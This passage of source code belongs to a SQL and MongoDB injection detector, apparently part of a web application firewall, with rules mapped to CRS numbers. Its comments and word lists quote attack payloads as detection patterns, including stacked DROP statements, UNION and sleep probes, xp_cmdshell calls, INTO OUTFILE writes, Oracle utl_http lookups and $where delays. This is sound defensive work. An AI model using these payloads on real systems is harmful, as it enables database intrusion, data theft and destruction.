    if (tok(ntok - 1) == T_COMMENT && (tok(g) == T_FUNC || tok(g) == T_SQLFUNC || tok(g) == T_CMP) && g + 1 < ntok && tok(g + 1) == T_LPAR && closingParen(g + 1) == ntok - 2) return "sqli:call-comment";
  }
  // A statement on its own after a separator: ;shutdown-- | ;drop-- | ;DROP/**/TABLE x; | ;INSERT INTO t (c) VALUES
  if (t0 == T_SEMI && ntok >= 2 && tok(1) == T_STMT && (ntok == 2 || tok(2) == T_COMMENT || tok(2) == T_SEMI)) return "sqli:stacked-query";
  if (t0 == T_SEMI && ntok >= 4 && tok(1) == T_STMT && statementShape(1)) return "sqli:stacked-query";
  // Numeric context: 1 or 1=1 | 1) or (1=1 | 1)) or ((1=1 | 1 and sleep(5) | -1 union … | -1 or 2+1=3
  let k = 0;
  if (t0 == T_OP && ntok > 1) k = 1;
  // -1 union | -6374 union 1,2,3-- | -1 union/* : a negative number then UNION and nothing, a comment or a column
  // list (the first result emptied for the attacker's)
  if (k == 1 && ntok >= 3 && tok(1) == T_NUMBER && tok(2) == T_UNION && (ntok == 3 || tok(3) == T_COMMENT || tok(3) == T_NUMBER || tok(3) == T_SELECT)) return "sqli:union";
  // The same after the application's parentheses closed by a value whose start was dropped ()) and 8823=6740 and
  // ((3350=3350).
  const leadParen = k == 0 && t0 == T_RPAR;
  if ((tok(k) == T_NUMBER || leadParen) && k + 1 < ntok) {
    const r = afterOperand(k, leadParen ? k : k + 1);
    if (r !== null) return r;
  }
  return null;
}

// The rules that read what follows an operand the value starts with (a number at token k; the rest from token m0):
// parentheses closed, then a clause, a comment, AND/OR and a condition, a stacked statement.
function afterOperand(k: i32, m0: i32): string | null {
  let m = m0;
  while (m < ntok && tok(m) == T_RPAR) m++;
  // An alias before the clause, for a value placed after a table name: x) AS abcd WHERE 1133=1133 or 2358=1973--
  const aliased = m > m0 && m + 3 < ntok && tok(m) == T_KEYWORD && wholeWordToken(m, "as") && tok(m + 1) == T_WORD && tok(m + 2) == T_KEYWORD && wholeWordToken(m + 2, "where");
  if (aliased) m += 2;
  // 17,23 order by 16: a list of numbers before the clause
  if (m == k + 1) while (m + 1 < ntok && tok(m) == T_COMMA && tok(m + 1) == T_NUMBER) m += 2;
  // 1 group by tblProducts.ProductID having 1=1-- | 3 where prod.id=3/*
  if (m + 4 < ntok && tok(m) == T_KEYWORD && tok(m + 1) == T_KEYWORD && wholeWordToken(m, "group") && wholeWordToken(m + 1, "by") && tok(m + 2) == T_WORD) {
    let q = m + 3;
    while (q < ntok && tok(q) == T_WORD) q++; // tbl.col reads as two words ('.' is no token)
    if (q + 3 < ntok && tok(q) == T_KEYWORD && wholeWordToken(q, "having") && tok(q + 2) == T_CMP) return "sqli:numeric-clause";
  }
  // (HAVING in WHERE's place after the application's closing parentheses: ) HAVING 6567=8791-- x)
  if (m + 3 < ntok && tok(m) == T_KEYWORD && (wholeWordToken(m, "where") || (m > m0 && wholeWordToken(m, "having"))) &&
      (tok(ntok - 1) == T_COMMENT || literalComparisonAt(m + 1))) {
    exprFlags = 0;
    const e = sqlExprEnd(m + 1, false);
    if (e > 0 && (exprFlags & EX_CMP) != 0 && (e == ntok || (e == ntok - 1 && tok(e) == T_COMMENT))) return "sqli:numeric-clause";
    // … where 4050=4050 order by 1-- | … where 6911=6911 having 4064=1981-- (the columns counted, a condition more)
    if (e > 0 && e + 2 < ntok && (exprFlags & EX_CMP) != 0 && tok(ntok - 1) == T_COMMENT && tok(e) == T_KEYWORD &&
        ((wholeWordToken(e, "order") && tok(e + 1) == T_KEYWORD && tok(e + 2) == T_NUMBER) || (wholeWordToken(e, "having") && literalComparisonAt(e + 1)))) return "sqli:numeric-clause";
  }
  // 274 group by concat(version(),floor(rand(0)*2))having min(0) or 1-- : grouping by a call after a number
  if (m + 3 < ntok && tok(m) == T_KEYWORD && tok(m + 1) == T_KEYWORD && (tok(m + 2) == T_SQLFUNC || tok(m + 2) == T_FUNC) && tok(m + 3) == T_LPAR &&
      wholeWordToken(m, "group") && wholeWordToken(m + 1, "by")) return "sqli:numeric-clause";
  if (m < ntok && tok(m) == T_COMMENT && m + 1 == ntok && m > k + 1) return "sqli:numeric-comment";
  // 1 order by 3-- : column probing; also without the comment when nothing but column numbers or HAVING follows
  // (1234.5) ORDER BY 1 | 1 GROUP BY 1,TRANSID HAVING 1=1)
  if (m + 3 < ntok && tok(m) == T_KEYWORD && tok(m + 1) == T_KEYWORD && tok(m + 2) == T_NUMBER && (m + 3 == ntok - 1) && tok(m + 3) == T_COMMENT) return "sqli:numeric-order-by";
  if (m + 2 < ntok && tok(m) == T_KEYWORD && tok(m + 1) == T_KEYWORD && (tok(m + 2) == T_NUMBER || ((tok(m + 2) == T_FUNC || tok(m + 2) == T_SQLFUNC) && closingParen(m + 3) == ntok - 1)) && (wholeWordToken(m, "order") || wholeWordToken(m, "group")) && wholeWordToken(m + 1, "by")) {
    let q = tok(m + 2) == T_NUMBER ? m + 3 : ntok;
    while (q + 1 < ntok && tok(q) == T_COMMA && (tok(q + 1) == T_NUMBER || tok(q + 1) == T_WORD)) q += 2;
    if (q == ntok || tok(q) == T_COMMENT || (tok(q) == T_KEYWORD && wholeWordToken(q, "having"))) return "sqli:numeric-order-by";
  }
  if (m + 2 < ntok && tok(m) == T_LOGIC) {
    let q = m + 1;
    if (q + 1 < ntok && tok(q) == T_KEYWORD && wholeWordToken(q, "not")) q++; // )) or not 9708=8767 and ((2291=2291
    while (q < ntok && tok(q) == T_LPAR) q++;
    // An arithmetic operand on the left: 2+1=3
    let r = q + 1;
    while (r + 1 < ntok && tok(r) == T_OP && (tok(r + 1) == T_NUMBER || tok(r + 1) == T_STRING)) r += 2;
    // and(1)=1 : the operand's own parentheses close before the comparison
    if (q > m + 1) while (r < ntok && tok(r) == T_RPAR && r + 1 < ntok && tok(r + 1) != T_LOGIC) r++;
    if (r < ntok && isOperand(tok(q)) && (tok(r) == T_CMP || (r == q + 1 && tok(r) == T_LPAR))) return "sqli:numeric-tautology";
    // 0 or 1 group by concat(…) having min(0) -- | 5 or 1 --
    if (q + 2 < ntok && (tok(q) == T_NUMBER || tok(q) == T_STRING) && tok(q + 1) == T_KEYWORD && tok(q + 2) == T_KEYWORD) return "sqli:numeric-clause";
    if (q + 2 == ntok && (tok(q) == T_NUMBER || tok(q) == T_STRING) && tok(q + 1) == T_COMMENT) return "sqli:numeric-comment";
    if (q < ntok && (tok(q) == T_SQLFUNC || tok(q) == T_SELECT)) return "sqli:numeric-function";
  }
  // 9999 or true | 1 or /*+ optimizer hint */ true: the truth itself after OR, nothing after it (not "2 or 3")
  if (m + 2 == ntok && tok(m) == T_LOGIC && tok(m + 1) == T_NUMBER && wholeWordToken(m, "or") && wholeWordToken(m + 1, "true")) return "sqli:numeric-tautology";
  if (m < ntok && tok(m) == T_SEMI && m + 1 < ntok && isStmtStart(tok(m + 1))) return "sqli:stacked-query";
  return null;
}

// A quote-context pass is only worth running when the value holds that quote.
function sqliOnNormalized(): bool {
  sqlTokenize(0);
  let r = sqlRules(false);
  // A long value read on in windows: SQL after 200 words or "1,1,1,…" of padding is SQL all the same.
  // (The rules that apply anywhere all need a word: a rest without letters, "$($($(…" or "((((…", is not read.
  // A later window leaves tokensOfWholeValue false: appendedClause, the one rule below that reads the plain
  // tokens, takes the value's first ones again.)
  while (r === null && tokTruncated && windowRestart > 0 && letterFrom(windowRestart)) { sqlTokenize(0, windowRestart); r = sqlRules(false, false); }
  // Comments between the words of a condition: "1#\nAND#\n9227=9227", "-1#\n union (select …)".
  if (r === null && sawInnerComment) {
    commentsAsBlanks = true;
    sqlTokenize(0);
    commentsAsBlanks = false;
    r = sqlRules(false);
  }
  if (r === null && (present & P_QUOTE) != 0 && indexOf("'", 0) >= 0) { sqlTokenize(0x27); if (sawStringClose) r = sqlRules(true); }
  if (r === null && (present & P_QUOTE) != 0 && indexOf("\"", 0) >= 0) { sqlTokenize(0x22); if (sawStringClose) r = sqlRules(true); }
  // A value that closes a quoted identifier the application wrote (ORDER BY `id`, a JSON key spliced into a column
  // name): id`,if(1=1,sleep(6),0)-- - | clicks`=1 and 1=sleep(5)-- - | `+WHERE+1=1+AND+(SELECT … SLEEP(7) …)--
  // (The name before the backtick is one - letters, digits, '_', '.', '-' - and SQL follows it, not only a comment.)
  if (r === null && (present & P_BACKTICK_FENCE) != 0 && identifierBeforeBacktick()) {
    sqlTokenize(0x60);
    if (sawStringClose && ntok > 2 && sqlAfterIdentifier()) r = sqlRules(true);
  }
  // A value that is itself a query string or assignment ("id=1 or 1=1", "/items?id=1 or 1=1", "a=b&id=…"): what
  // follows each name= (at the start or after '?', '&', ';') is a parameter value of its own, read as one.
  if (r === null && (present & P_EQ) != 0) {
    // Parameter starts: the value's start and the byte after each '?', '&', ';' (not each '=': runs of '='
    // would each be looked at).
    // Each value is read up to the next '&' (or ';'), so a run of parameters stays linear.
    for (let st = 0; st < normLen && r === null; ) {
      let e = st;
      while (e < normLen && (isWordByte(nb(e)) || nb(e) == 0x2e || nb(e) == 0x5b || nb(e) == 0x5d || nb(e) == 0x2d)) e++;
      const named = e > st && nb(e) == 0x3d;
      st = nextInSet(normPtr, e, normLen, SET_PARAM_SEP);
      while (st < normLen && nb(st) != 0x3f && nb(st) != 0x26 && nb(st) != 0x3b) st++;
      if (named && st > e + 1) {
        // A query string inside markup (href="?id=5&x=1">…) ends at the tag's quote or bracket.
        let ve = e + 1;
        while (ve < st && nb(ve) != 0x22 && !(nb(ve) == 0x3c && (isAlpha(nb(ve + 1)) || nb(ve + 1) == 0x2f))) ve++;
        if (ve > e + 2) { sqlTokenize(0, e + 1, ve); r = sqlRules(false); }
      }
      st++;
    }
    if (r !== null) r = "sqli:parameter-value";
  }
  // A clause to be appended to the application's query, at the start of the value: " ORDER BY 5--",
  // "group by 2#", " HAVING 1=1", "where 1=1 and 1=0". (A sort box reading "order by date" has a word.)
  if (r === null) r = appendedClause();
  if (r === null && (present & P_DIGIT) != 0) r = hexEncodedStatement();
  if (r === null) r = databaseAttackName();
  if (r === null) r = catalogProbe();
  if (r === null) r = databaseStatement();
  if (r === null && (present & (P_PAREN | P_EQ | P_DIGIT)) == (P_PAREN | P_EQ | P_DIGIT)) r = parenthesizedSelfComparison();
  if (r === null && (present & P_COLON) != 0 && postgresCast()) r = "sqli:postgres-cast";
  if (r === null && (present & P_DOLLAR) != 0) r = nosqlOperator();
  if (r === null && (present & (P_DOT | P_PAREN)) == (P_DOT | P_PAREN)) r = mongoShellCommand();
  if (r === null && (present & (P_BRACE | P_PAREN)) == (P_BRACE | P_PAREN)) r = jsBusyLoop();
  if (r !== null) { lastRule = r; return true; }
  return false;
}

// A value that is a database's catalog or a call that names the database, alone (the probes of blind
// injection that read one name at a time, CRS 942140): "information_schema", "pg_catalog.pg_tables",
// "sqlite_master", "database()", "@@version". Only the whole value (or a dotted name or call after it):
// prose that mentions a catalog ("the information_schema database lists tables") goes on with words.
// (SQL_CATALOGS is in prefilter.ts: the byte gates let such a value through with catalogNameStart.)
function catalogProbe(): string | null {
  if (normLen < 4 || normLen > 72) return null;
  let s = 0;
  while (s < 8 && (isSpace(nb(s)) || nb(s) == 0x60 || nb(s) == 0x22 || nb(s) == 0x27 || nb(s) == 0x5b)) s++;
  if (normLen - s < 4) return null;
  const c0 = nb(s);
  if (!(c0 == 0x69 || c0 == 0x70 || c0 == 0x73 || c0 == 0x6d || c0 == 0x64 || c0 == 0x63 || c0 == 0x40)) return null; // i p s m d c @
  for (let k = 0; k < SQL_CATALOGS.length; k++) {
    const w = unchecked(SQL_CATALOGS[k]);
    if (!startsAt(s, w)) continue;
    let e = s + w.length;
    if (ch(w, w.length - 1) == 0x28) { // a call: its parentheses may close, nothing else follows but blanks
      while (e < normLen && isSpace(nb(e))) e++;
      if (nb(e) == 0x29) e++;
    } else if (nb(e) == 0x2e || (nb(e) == 0x28 && nb(e + 1) == 0x29)) return "sqli:catalog"; // pg_catalog.pg_tables, @@version()
    while (e < normLen && (isSpace(nb(e)) || nb(e) == 0x60 || nb(e) == 0x22 || nb(e) == 0x27 || nb(e) == 0x5d || nb(e) == 0x3b)) e++;
    if (e >= normLen) return "sqli:catalog";
    // a comment that cuts the rest of the query: @@version-- | @@version /* | database()#
    if ((nb(e) == 0x2d && nb(e + 1) == 0x2d) || (nb(e) == 0x23 && (e + 1 >= normLen || isSpace(nb(e + 1)))) || (nb(e) == 0x2f && nb(e + 1) == 0x2a)) return "sqli:catalog";
  }
  return null;
}

// MongoDB query operators where an application expects a plain value (CRS 942290): a query or form name
// that qs-style parsers turn into an object (password[$ne]=x, id[$regex]=.*), a JSON key ({"password":
// {"$ne": null}}, {"$where": "sleep(100)"}), or such JSON inside a value. Reported as SQL injection (the
// database's query is what the operator changes). A PHP or shell variable ($text = …) is neither in brackets
// nor a key.
const NOSQL_OPERATORS: StaticArray<string> = ["ne", "eq", "gt", "gte", "lt", "lte", "in", "nin", "regex", "where", "exists", "expr", "function", "accumulator",
  "or", "and", "nor", "not", "elemmatch", "text", "type", "size", "all", "mod", "jsonschema", "lookup"];
function nosqlOperator(): string | null {
  for (let i = indexOf("$", 0); i >= 0; i = indexOf("$", i + 1)) {
    const b = i > 0 ? nb(i - 1) : 0;
    const bracket = b == 0x5b, quoted = b == 0x22 || b == 0x27;
    if (!(i == 0 || bracket || quoted || b == 0x7b || b == 0x2c || b == 0x28 || isSpace(b))) continue;
    let e = i + 1;
    while (e < normLen && isAlpha(nb(e))) e++;
    if (e == i + 1 || e - i > 12) continue;
    const c = nb(e);
    // "$ne" alone (a JSON key), [$ne], "$ne": ; not "$text = …", "$in the box".
    let a = e;
    if (quoted && c == b) { a = e + 1; while (a < normLen && isSpace(nb(a))) a++; }
    // Or written unquoted as JavaScript allows, after '{', ',', '(' or a blank, with a value after it: "', $or: [ {}, {…",
    // "true, $where: '…'" (prices and PHP variables have no ':' and then '[', '{', a quote or a digit).
    let unquotedKey = false;
    if (!(i == 0 || bracket || quoted) || c == 0x3a || isSpace(c)) {
      const before = i == 0 || b == 0x7b || b == 0x2c || b == 0x28 || isSpace(b);
      let k = e;
      while (k < normLen && isSpace(nb(k))) k++;
      if (before && nb(k) == 0x3a) {
        k++;
        while (k < normLen && isSpace(nb(k))) k++;
        const v = nb(k);
        unquotedKey = v == 0x5b || v == 0x7b || v == 0x22 || v == 0x27 || isDigit(v) || wordEquals(i + 1, e, "where");
      }
    }
    const ends = (i == 0 && e == normLen) || (bracket && c == 0x5d) || (quoted && c == b && nb(a) == 0x3a) || unquotedKey;
    if (!ends) continue;
    for (let k = 0; k < NOSQL_OPERATORS.length; k++) if (wordEquals(i + 1, e, unchecked(NOSQL_OPERATORS[k]))) return "sqli:nosql-operator";
  }
  return null;
}

// A MongoDB shell command where a value was expected (a server that evaluates it, or a $where): db.users.find(,
// db.injection.insert({…}), db.dropDatabase(). "db." starts a word; the method is one of the shell's.
const MONGO_METHODS: StaticArray<string> = ["find", "findone", "insert", "insertone", "insertmany", "update", "updateone", "updatemany", "remove",
  "deleteone", "deletemany", "drop", "dropdatabase", "aggregate", "count", "getcollection", "getcollectionnames", "createuser", "mapreduce", "save",
  "eval", "runcommand", "getsiblingdb", "replaceone", "findoneandupdate", "findoneanddelete"];
function mongoShellCommand(): string | null {
  for (let i = indexOf("db.", 0); i >= 0; i = indexOf("db.", i + 3)) {
    if (i > 0 && (isWordByte(nb(i - 1)) || nb(i - 1) == 0x2e)) continue;
    let s = i + 3, e = s;
    while (e < normLen && (isWordByte(nb(e)))) e++;
    // db.method( or db.collection.method(
    if (nb(e) == 0x2e) { s = e + 1; e = s; while (e < normLen && isAlpha(nb(e))) e++; }
    if (nb(jsTokenAfter(e)) != 0x28 || inFence(i)) continue;
    for (let k = 0; k < MONGO_METHODS.length; k++) if (wordEquals(s, e, unchecked(MONGO_METHODS[k]))) return "sqli:nosql-command";
  }
  return null;
}
// A busy loop that stalls a server-side JavaScript evaluation (MongoDB $where, a Node eval) for a set time: the
// blind-injection probe "var d=new Date(); do{c=new Date();}while(c-d<10000)". A do-while whose condition
// reads a clock.
function jsBusyLoop(): string | null {
  const d = indexOf("do", 0);
  if (d < 0 || (indexOf("date", d) < 0 && indexOf("now(", d) < 0)) return null;
  for (let i = indexOf("while", d + 2); i >= 0; i = indexOf("while", i + 5)) {
    const b = jsTokenEndBefore(i);
    if (b <= 0 || nb(b - 1) != 0x7d || nb(jsTokenAfter(i + 5)) != 0x28 || inFence(i)) continue;
    return "sqli:nosql-js-delay";
  }
  return null;
}

// Names only an attack on the database sends, whatever tokens surround them (CRS 942190/942140):
// MSSQL's command, registry and OLE procedures (exec xp_cmdshell 'dir', master..xp_dirtree), MySQL's file
// writes (INTO OUTFILE / DUMPFILE and a quoted or computed name), and reading the catalog (FROM information_schema,
// information_schema.tables). Each as a whole word; documentation in a markdown fence is skipped.
const SQL_ATTACK_PROCEDURES: StaticArray<string> = ["xp_cmdshell", "xp_dirtree", "xp_regread", "xp_fileexist", "xp_subdirs", "sp_oacreate", "sp_oamethod",
  "sp_makewebtask", "sp_addsrvrolemember", "sp_password"];
@inline function wholeWordAt(i: i32, len: i32): bool { return i >= 0 && !inFence(i) && (i == 0 || !isWordByte(nb(i - 1))) && !isWordByte(nb(i + len)); }
function wordBefore(i: i32, w: string): bool {
  let e = i;
  while (e > 0 && (isSpace(nb(e - 1)) || nb(e - 1) == 0x60 || nb(e - 1) == 0x22 || nb(e - 1) == 0x5b)) e--;
  const s = e - w.length;
  return s >= 0 && (s == 0 || !isWordByte(nb(s - 1))) && startsAt(s, w);
}
function databaseAttackName(): string | null {
  if (present & P_UNDERSCORE) {
    // xp_… and sp_…: one search for "p_", then the names at each hit.
    for (let i = indexOf("p_", 1); i >= 0; i = indexOf("p_", i + 2)) {
      const c = nb(i - 1);
      if (c != 0x78 && c != 0x73) continue;
      for (let k = 0; k < SQL_ATTACK_PROCEDURES.length; k++) {
        const w = unchecked(SQL_ATTACK_PROCEDURES[k]);
        if (startsAt(i - 1, w) && wholeWordAt(i - 1, w.length)) return "sqli:attack-procedure";
      }
    }
    for (let i = indexOf("information_schema", 0); i >= 0; i = indexOf("information_schema", i + 1)) {
      if (!wholeWordAt(i, 18)) continue;
      let a = i + 18;
      while (a < normLen && (nb(a) == 0x60 || nb(a) == 0x22 || nb(a) == 0x5d)) a++;
      if (wordBefore(i, "from") || (nb(a) == 0x2e && isAlpha(nb(a + 1)))) return "sqli:catalog";
    }
  }
  for (let i = indexOf("file", 3); i >= 0; i = indexOf("file", i + 4)) { // outfile, dumpfile
    const s = startsAt(i - 3, "out") ? i - 3 : i >= 4 && startsAt(i - 4, "dump") ? i - 4 : -1;
    if (s >= 0 && wholeWordAt(s, i + 4 - s) && wordBefore(s, "into") && fileNameAfter(i + 4)) return "sqli:file-write";
  }
  return null;
}
// Statements and calls that only a database reads, whatever surrounds them (CRS 942250/942320/942350/942500):
// MySQL's versioned comment that runs what it holds (/*!50000select), Oracle's EXECUTE IMMEDIATE of a string,
// MySQL's PROCEDURE ANALYSE(, a T-SQL variable declared (DECLARE @x, DECLARE/**/@x) or a procedure run from
// master (EXEC master.…) or through a variable (EXEC (@q)), a function created with its return type
// (CREATE FUNCTION … RETURNS), and the calls of database engines' own functions (large objects, SQLite's
// compile options, Oracle's XMLType, MySQL's NAME_CONST and MAKE_SET).
const DATABASE_FUNCTIONS: StaticArray<string> = ["lo_import", "lo_export", "lo_get", "lo_put", "lo_from_bytea", "sqlite_compileoption_get",
  "sqlite_compileoption_used", "pg_read_file", "pg_read_binary_file", "pg_ls_dir", "xmltype", "name_const", "make_set", "dbms_xmlgen", "utl_http",
  // time delays: Oracle's pipes and locks, Vertica's crypt_key; only as calls (SQLite's randomblob is a SQL function word)
  "dbms_pipe", "dbms_lock", "user_lock", "crypt_key",
  // Oracle's name lookups: a query's result in an error or a DNS request (utl_inaddr.get_host_address((select …)))
  "utl_inaddr"];
function databaseStatement(): string | null {
  if ((present & (P_SLASH | P_BANG)) == (P_SLASH | P_BANG)) {
    for (let i = indexOf("/*!", 0); i >= 0; i = indexOf("/*!", i + 3)) {
      const c = nb(i + 3);
      if (isDigit(c) || isAlpha(c)) return "sqli:mysql-executable-comment";
    }
  }
  // EXECUTE IMMEDIATE '…' / :v / @v; EXEC master.…; EXEC (@q). One search for "exec" serves all three.
  const immediate = (present & (P_QUOTE | P_COLON | P_HASH_AT_STAR)) != 0, master = (present & P_DOT) != 0, viaVariable = (present & (P_PAREN | P_HASH_AT_STAR)) == (P_PAREN | P_HASH_AT_STAR);
  if (immediate || master || viaVariable) {
    for (let i = indexOf("exec", 0); i >= 0; i = indexOf("exec", i + 4)) {
      if (startsAt(i + 4, "ute")) {
        if (!immediate || !wholeWordAt(i, 7)) continue;
        let j = i + 7;
        while (j < normLen && isSpace(nb(j))) j++;
        if (j == i + 7 || !startsAt(j, "immediate")) continue;
        j = jsTokenAfter(j + 9);
        if (nb(j) == 0x22 || nb(j) == 0x27 || nb(j) == 0x3a || nb(j) == 0x40) return "sqli:dynamic-sql";
        continue;
      }
      if (!wholeWordAt(i, 4)) continue;
      const j = jsTokenAfter(i + 4);
      if (j == i + 4) continue;
      if ((master && startsAt(j, "master.")) || (viaVariable && nb(j) == 0x28 && nb(jsTokenAfter(j + 1)) == 0x40)) return "sqli:exec-procedure";
    }
  }
  if (present & P_PAREN) {
    for (let i = indexOf("procedure", 0); i >= 0; i = indexOf("procedure", i + 9)) {
      if (!wholeWordAt(i, 9)) continue;
      let j = i + 9;
      while (j < normLen && isSpace(nb(j))) j++;
      if (j > i + 9 && startsAt(j, "analyse") && nb(jsTokenAfter(j + 7)) == 0x28) return "sqli:procedure-analyse";
    }
  }
  if (present & P_HASH_AT_STAR) {
    for (let i = indexOf("declare", 0); i >= 0; i = indexOf("declare", i + 7)) {
      if (!wholeWordAt(i, 7)) continue;
      const j = jsTokenAfter(i + 7);
      if (j > i + 7 && nb(j) == 0x40 && isWordByte(nb(j + 1)) && declaredTypeAfter(j + 1, commentIn(i + 7, j))) return "sqli:declare-variable";
    }
  }
  if (present & P_PAREN) {
    // The next "returns" is searched again only once passed (one pointer moving forward: linear).
    let r = -2;
    for (let i = indexOf("function", 0); i >= 0; i = indexOf("function", i + 8)) {
      if (!wholeWordAt(i, 8) || !(wordBefore(i, "create") || wordBefore(i, "replace"))) continue; // CREATE [OR REPLACE] FUNCTION
      if (r != -1 && r < i + 8) r = indexOf("returns", i + 8);
      if (r < 0) break;
      if (r - i < 160 && wholeWordAt(r, 7)) return "sqli:create-function";
    }
    // Each listed name but XMLType holds '_'.
    const underscore = (present & P_UNDERSCORE) != 0;
    if (!underscore && indexOf("xmltype", 0) < 0) return null;
    for (let i = nextInSet(normPtr, 1, normLen, SET_LPAREN); i < normLen; i = nextInSet(normPtr, i + 1, normLen, SET_LPAREN)) {
      if (nb(i) != 0x28) continue;
      let e = i;
      while (e > 0 && isSpace(nb(e - 1))) e--;
      // (an inline comment before the parenthesis is a blank: MAKE_SET/**/(…))
      while (e > 3 && nb(e - 1) == 0x2f && nb(e - 2) == 0x2a) {
        let o = e - 3;
        while (o > 0 && !(nb(o - 1) == 0x2f && nb(o) == 0x2a)) o--;
        if (o <= 0) break;
        e = o - 1;
        while (e > 0 && isSpace(nb(e - 1))) e--;
      }
      let st = e;
      while (st > 0 && (isAlpha(nb(st - 1)) || nb(st - 1) == 0x5f || (nb(st - 1) == 0x2e && st - 1 > 0 && isAlpha(nb(st - 2))))) st--;
      if (e - st < 6 || (st > 0 && isDigit(nb(st - 1)))) continue;
      // The function is the called name (lo_get) or its package (utl_http.request).
      for (let k = 0; k < DATABASE_FUNCTIONS.length; k++) {
        const w = unchecked(DATABASE_FUNCTIONS[k]);
        const m = w.length;
        if (e - st < m) continue;
        if ((startsAt(e - m, w) && (e - m == st || nb(e - m - 1) == 0x2e)) || (startsAt(st, w) && nb(st + m) == 0x2e)) return "sqli:database-function";
      }
    }
  }
  return null;
}
// A number compared with itself as a parenthesized condition or a call's first argument: (5832=5832)*1,
// IIF(5832=5832,1,1/0), ELT(5832=5832,7711), IF (5832=5832) THEN (sqlmap's boolean probes; "1=1" alone is
// left to the other rules, as arithmetic or a score line might write it).
function parenthesizedSelfComparison(): string | null {
  for (let q = nextEq(1); q > 0; q = nextEq(q + 1)) {
    let e = q;
    while (e > 0 && isSpace(nb(e - 1))) e--;
    let s = e;
    while (s > 0 && e - s < 20 && isDigit(nb(s - 1))) s--;
    if (s == e) continue;
    let b = s;
    while (b > 0 && isSpace(nb(b - 1))) b--;
    if (b == 0 || nb(b - 1) != 0x28) continue;
    // An LDAP filter's item ((|(mail=*)(1=1)), (&(1=1)…)) is the protocol rule's: '(' after ')', '|', '&' or '!'.
    const lb = b >= 2 ? nb(b - 2) : 0;
    if (lb == 0x29 || lb == 0x7c || lb == 0x26 || lb == 0x21) continue;
    let v = q + 1;
    while (v < normLen && isSpace(nb(v))) v++;
    const n = e - s;
    let same = true;
    for (let j = 0; j < n; j++) if (nb(v + j) != nb(s + j)) { same = false; break; }
    if (!same || isDigit(nb(v + n))) continue;
    let a = v + n;
    while (a < normLen && isSpace(nb(a))) a++;
    if (nb(a) == 0x29 || nb(a) == 0x2c) return "sqli:self-comparison";
  }
  return null;
}
// After a T-SQL variable's name (at v): its type, or a line break, ';', ',' or '=' ("declare @b⏎", "DECLARE @x int,",
// "declare @q nvarchar(4000)"); the value's end only after a comment ("DECLARE/**/@x"): "we declare @home
// tonight" goes on with a word, and "I declare @maria" ends a sentence.
const TSQL_TYPES: StaticArray<string> = ["int", "bigint", "smallint", "tinyint", "bit", "varchar", "nvarchar", "char", "nchar", "text", "ntext", "datetime",
  "date", "decimal", "numeric", "float", "real", "money", "table", "cursor", "as", "sysname", "varbinary", "binary", "uniqueidentifier", "xml", "sql_variant"];
function declaredTypeAfter(v: i32, endAllowed: bool): bool {
  let e = v;
  while (e < normLen && isWordByte(nb(e))) e++;
  const t = jsTokenAfter(e);
  for (let k = e; k < t; k++) if (nb(k) == 0x0a || nb(k) == 0x0d) return true; // the statement's line ends
  if (t >= normLen) return endAllowed;
  if (nb(t) == 0x0a || nb(t) == 0x0d || nb(t) == 0x3b || nb(t) == 0x2c || nb(t) == 0x3d) return true;
  if (t == e) return false;
  let w = t;
  while (w < normLen && isAlpha(nb(w))) w++;
  for (let k = 0; k < TSQL_TYPES.length; k++) if (wordEquals(t, w, unchecked(TSQL_TYPES[k])) && !isWordByte(nb(w))) return true;
  return false;
}
// PostgreSQL's cast operator to a type (CRS 942320/942550): an error-based probe casts a column to a number
// (password::int, (select …)::text, '…'::jsonb @? '$.a'). After ')' or a quote any listed type; after a name only
// the number, boolean and binary types, ending the value or before an operator ("std::string", "Foo::Text",
// IPv6's "fe80::1" and "price::numeric is a cast" are no probes).
const PG_CAST_TYPES: StaticArray<string> = ["int", "int2", "int4", "int8", "integer", "bigint", "smallint", "numeric", "decimal", "float", "float4",
  "float8", "real", "double precision", "bool", "boolean", "bytea", "regclass", "oid", "jsonb", "text", "varchar", "json", "xml", "inet", "date"];
const PG_CAST_AFTER_NAME: i32 = 19; // the first 19 types
function postgresCast(): bool {
  for (let i = indexOf("::", 1); i >= 0; i = indexOf("::", i + 2)) {
    const b = nb(i - 1);
    const closed = b == 0x29 || b == 0x27 || b == 0x22;
    if (!closed && !(isAlpha(b) || b == 0x5f)) continue;
    if (nb(i + 2) == 0x3a) continue;
    const limit = closed ? PG_CAST_TYPES.length : PG_CAST_AFTER_NAME;
    for (let k = 0; k < limit; k++) {
      const t = unchecked(PG_CAST_TYPES[k]);
      let e = i + 2 + t.length;
      if (!startsAt(i + 2, t) || isWordByte(nb(e)) || nb(e) == 0x3a) continue;
      // After a name, the cast ends the value or an operator follows: "price::numeric is a cast" is prose.
      while (e < normLen && (nb(e) == 0x20 || nb(e) == 0x09)) e++;
      if (closed || e >= normLen || !isAlpha(nb(e))) return true;
    }
  }
  return false;
}

// What names the file after INTO OUTFILE: a quoted string (also typographic quotes), an expression in
// parentheses or a call (substring(…)); not a word of prose ("into outfile please") nor ".txt".
function fileNameAfter(i: i32): bool {
  if (!isSpace(nb(i))) return false;
  while (i < normLen && isSpace(nb(i))) i++;
  const c = nb(i);
  if (c == 0x27 || c == 0x22 || c == 0x60 || c == 0x28 || c >= 0x80) return true;
  while (i < normLen && isWordByte(nb(i))) i++;
  return nb(i) == 0x28;
}
// A hex literal that spells a statement, run through a variable: "declare @q varchar(99) set @q=0x77616974…
// exec(@q)" (SQL Server), the statement hidden from filters as 0x77616974666f722064656c6179… ("waitfor delay")
// or as UTF-16 (nvarchar: every other byte zero). Decoded up to 64 characters; binary data decodes to bytes
// outside printable ASCII and is not read further (Ethereum addresses and hashes are hex too).
const HEX_STATEMENT_WORDS: StaticArray<string> = ["waitfor ", "select ", "exec ", "exec(", "execute ", "xp_cmdshell", "declare ", "union ", "insert ", "drop ", "shutdown", "sleep(", "benchmark("];
const hexText = memory.data(64);
function hexEncodedStatement(): string | null {
  for (let i = indexOf("0x", 0); i >= 0; i = indexOf("0x", i + 2)) {
    if (i > 0 && isWordByte(nb(i - 1))) continue;
    let j = i + 2, n = 0;
    while (j + 1 < normLen && n < 64 && isHex(nb(j)) && isHex(nb(j + 1))) {
      const b = (hexVal(nb(j)) << 4) | hexVal(nb(j + 1));
      j += 2;
      if (b == 0) continue;
      if (b < 0x20 || b > 0x7e) { n = -1; break; }
      store<u8>(hexText + <usize>n, b - 0x41 < 26 ? b | 0x20 : b);
      n++;
    }
    if (n < 8) continue;
    for (let k = 0; k < HEX_STATEMENT_WORDS.length; k++) {
      const w = unchecked(HEX_STATEMENT_WORDS[k]);
      for (let at = 0; at + w.length <= n; at++) {
        let m = 0;
